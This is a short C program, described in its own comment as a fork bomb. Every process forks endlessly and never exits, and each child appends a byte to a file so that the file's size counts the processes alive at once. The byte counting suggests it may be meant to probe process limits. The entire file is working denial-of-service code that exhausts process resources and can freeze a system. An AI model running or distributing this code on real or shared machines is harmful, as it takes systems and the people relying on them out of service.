/* Fork bomb: every process forks as fast as it can, forever; failed forks are retried.
 * Each process that starts appends one byte to the file named by argv[1], and no process ever
 * exits, so the file's size is the number of processes that existed at the same time. */
#include <fcntl.h>
#include <unistd.h>

int main(int argc, char **argv) {
    int fd = open(argc > 1 ? argv[1] : "forks", O_WRONLY | O_CREAT | O_APPEND, 0644);
    for (;;) {
        pid_t pid = fork();
        if (pid == 0) {
            if (fd >= 0 && write(fd, "x", 1) != 1) { /* keep going anyway */ }
        }
    }
}
